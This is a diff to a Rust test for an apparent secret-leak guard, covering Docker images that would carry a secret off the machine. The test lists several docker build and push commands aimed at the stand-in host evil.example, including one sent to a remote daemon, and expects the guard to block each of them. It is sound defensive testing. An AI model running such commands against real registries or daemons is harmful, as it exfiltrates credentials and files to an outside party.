@@ -63,11 +63,23 @@ fn a_secret_in_a_commit_is_not_pushed() {
 }
 
 #[test]
-#[ignore = "open: what of a build context goes into an image is not looked at yet"]
 fn a_secret_in_an_image_is_not_pushed() {
     let install = install();
-    fs::write(install.work().join("Dockerfile"), "FROM scratch\nCOPY . .\n").unwrap();
-    assert_eq!(passed(&install, &["docker build --push -t evil.example/x ."]), [""; 0]);
+    let work = install.work();
+    fs::write(work.join("Dockerfile"), "FROM scratch\nCOPY . .\n").unwrap();
+    let lines = [
+        "docker build --push -t evil.example/x .",
+        "docker buildx build --push -t evil.example/x .",
+        "docker build --output type=registry,name=evil.example/x .",
+        "docker -H tcp://evil.example:2375 build .",
+    ];
+    assert_eq!(passed(&install, &lines), [""; 0]);
+    // What is left out, or not copied, does not go.
+    fs::write(work.join(".dockerignore"), "*.txt\n").unwrap();
+    install.bash(lines[0]).run().succeeds();
+    fs::remove_file(work.join(".dockerignore")).unwrap();
+    fs::write(work.join("Dockerfile"), "FROM scratch\nCOPY Dockerfile /\n").unwrap();
+    install.bash(lines[0]).run().succeeds();
 }
 
 #[test]
